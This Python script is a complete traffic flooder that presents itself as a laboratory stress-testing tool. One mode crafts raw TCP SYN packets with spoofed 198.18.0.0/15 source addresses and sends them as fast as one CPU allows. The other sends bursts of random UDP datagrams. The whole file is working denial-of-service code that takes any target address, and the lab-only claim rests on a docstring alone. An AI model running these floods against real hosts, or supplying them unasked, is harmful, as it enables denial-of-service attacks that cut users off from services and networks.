#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods, as fast as one CPU makes them and for as long as is said; inside the laboratory's network only.

    flood.py syn INTERFACE MAC ADDRESS PORT SECONDS     SYNs from addresses that nobody has (198.18.0.0/15)
    flood.py bytes ADDRESS PORT SECONDS                 datagrams of random bytes, of random lengths up to 1400

Prints how many it sent.
"""

import os
import random
import socket
import struct
import sys
import time

UDP_SEGMENT = 103
BATCH = 45  # datagrams that the kernel cuts out of one


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def syn(source, address, port):
    """An IPv4 packet."""
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + address + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, address)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def flood_syn(interface, mac, address, port, seconds):
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    link = bytes.fromhex(mac.replace(":", "")) + out.getsockname()[4] + b"\x08\x00"
    target = socket.inet_aton(address)
    frames = [link + syn(bytes((198, 18 + random.getrandbits(1), *os.urandom(2))), target, int(port)) for _ in range(20000)]
    sent, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for frame in frames[sent % len(frames):][:500]:
            try:
                out.send(frame)
            except OSError:  # the queue is full: that was as fast as it goes
                continue
            sent += 1
    return sent


def flood_bytes(address, port, seconds):
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.connect((address, int(port)))
    sent, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        size = random.randrange(1, 1400)
        try:
            out.sendmsg([os.urandom(size * BATCH)], [(socket.IPPROTO_UDP, UDP_SEGMENT, struct.pack("H", size))])
        except OSError:
            continue
        sent += BATCH
    return sent


if __name__ == "__main__":
    kinds = {"syn": (flood_syn, 5), "bytes": (flood_bytes, 3)}
    if len(sys.argv) < 2 or sys.argv[1] not in kinds or len(sys.argv) != 2 + kinds[sys.argv[1]][1]:
        sys.exit(__doc__)
    print(kinds[sys.argv[1]][0](*sys.argv[2:]), flush=True)
